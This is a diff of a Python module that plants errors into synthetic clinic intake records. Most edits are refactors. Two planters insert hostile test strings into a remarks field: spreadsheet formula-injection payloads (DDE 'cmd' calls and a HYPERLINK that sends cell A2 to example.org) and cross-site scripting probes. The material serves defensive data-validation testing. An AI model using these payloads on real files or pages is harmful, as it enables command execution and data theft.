@@ -5,7 +5,7 @@ from __future__ import annotations
 from datetime import timedelta
 
 from clinic_intake.people import MUST, Missing, add_years
-from clinic_intake.spoiling import UNUSABLE, Desk, Row, plant
+from clinic_intake.spoiling import Desk, Row, plant
 
 SI = {"serum_magnesium_mmol_l", "serum_calcium_mmol_l", "serum_albumin_g_l", "serum_creatinine_umol_l", "glucose_mmol_l"}
 IMPLAUSIBLE = {
@@ -20,7 +20,10 @@ NUMBERS = (
     "cramp_severity", "exercise_minutes_week", "fluid_glasses_day", "body_weight_kg", "height_cm", "serum_potassium_mmol_l",
     "serum_sodium_mmol_l", "glucose_mmol_l", "serum_creatinine_umol_l",
 )
-YES_NO = ("diabetes", "varicose_veins", "heart_failure", "kidney_disease", "neuropathy", "liver_disease", "hypertension", "asthma")
+YES_NO = (
+    "diabetes", "varicose_veins", "heart_failure", "kidney_disease", "neuropathy", "liver_disease", "hypertension", "asthma",
+)
+DATED = ("age_years", "date_of_birth", "blood_sample_date", "start", "end")
 CODED = ("sex", "cramp_frequency", "smoking", "education")
 
 
@@ -45,7 +48,7 @@ def _implausible_age(row: Row, desk: Desk) -> bool:
 
 @plant("decimal slip")
 def _decimal(row: Row, desk: Desk) -> bool:
-    fit = [one for one in TENFOLD if desk.value(row, one) is not None and _in_si(row, one)]
+    fit = [one for one in TENFOLD if desk.value(row, one) is not None and _in_si(row)]
     if not fit:
         return False
     variable = desk.draw.one(fit)
@@ -63,7 +66,8 @@ def _decimal_weight(row: Row, desk: Desk) -> bool:
     return desk.spoil(row, "decimal slip in weight", "body_weight_kg", desk.layout.figure(round(wrong, 2)))
 
 
-def _in_si(row: Row, variable: str) -> bool:
+def _in_si(row: Row) -> bool:
+    """Whether the laboratory of the site reports in SI units."""
     return row.person["clinic_site"] not in ("S3", "S6")
 
 
@@ -94,7 +98,7 @@ def _glucose(row: Row, desk: Desk) -> bool:
 
 def _other_unit(row: Row, desk: Desk, kind: str, variable: str, factor: float, decimals: int) -> bool:
     value = desk.value(row, variable)
-    if value is None or not _in_si(row, variable):
+    if value is None or not _in_si(row):
         return False
     # what is kept as it stands: neither of these decides how urgent somebody is
     return desk.spoil(row, kind, variable, desk.layout.figure(round(value * factor, decimals)))
@@ -176,7 +180,7 @@ def _future_visit(row: Row, desk: Desk) -> bool:
     if "pregnant" in row.person:
         return False
     day = add_years(row.person["visit_date"], desk.draw.one((10, 20, 36)))
-    return desk.put(row, "visit in the future", "visit_date", day, "age_years", "date_of_birth", "blood_sample_date", "start", "end")
+    return desk.put(row, "visit in the future", "visit_date", day, *DATED)
 
 
 @plant("blood test in the future")
@@ -184,7 +188,8 @@ def _future_sample(row: Row, desk: Desk) -> bool:
     day = desk.value(row, "blood_sample_date")
     if day is None:
         return False
-    return desk.put(row, "blood test in the future", "blood_sample_date", add_years(day, desk.draw.one((10, 20, 36))), "visit_date")
+    later = add_years(day, desk.draw.one((10, 20, 36)))
+    return desk.put(row, "blood test in the future", "blood_sample_date", later, "visit_date")
 
 
 @plant("born in the future")
@@ -203,7 +208,7 @@ def _unborn(row: Row, desk: Desk) -> bool:
     if "pregnant" in row.person or row.person["date_of_birth"].year < 1928:
         return False
     day = add_years(row.person["visit_date"], -100)
-    return desk.put(row, "visit before birth", "visit_date", day, "age_years", "date_of_birth", "blood_sample_date", "start", "end")
+    return desk.put(row, "visit before birth", "visit_date", day, *DATED)
 
 
 @plant("blood test far from the visit")
@@ -254,14 +259,18 @@ def _mail(row: Row, desk: Desk) -> bool:
 @plant("name in free text")
 def _name(row: Row, desk: Desk) -> bool:
     surname = row.person["name"].split(" ", 1)[1]
-    written = desk.draw.one((f"Mrs {surname} came with her husband", f"sent by Dr. {surname}", f"son is called {row.person['name']}"))
+    written = desk.draw.one((
+        f"Mrs {surname} came with her husband", f"sent by Dr. {surname}", f"son is called {row.person['name']}",
+    ))
     return desk.spoil(row, "name in free text", "remarks", written, means=written)
 
 
 @plant("formula in a cell")
 def _formula(row: Row, desk: Desk) -> bool:
-    written = desk.draw.one(("=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")", "@SUM(1+1)*cmd|'/C calc'!A0",
-                             "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"))
+    written = desk.draw.one((
+        "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org/?"&A2,"open")', "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0",
+        "-2+3+cmd|'/C calc'!A0",
+    ))
     return desk.spoil(row, "formula in a cell", "remarks", written, means=written)
 
 
@@ -270,6 +279,3 @@ def _html(row: Row, desk: Desk) -> bool:
     written = desk.draw.one(("<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "</td></table><h1>hello</h1>",
                              "\"><svg onload=alert(1)>", "<iframe src=https://example.org></iframe>"))
     return desk.spoil(row, "HTML in a cell", "remarks", written, means=written)
-
-
-__all__ = ["UNUSABLE"]
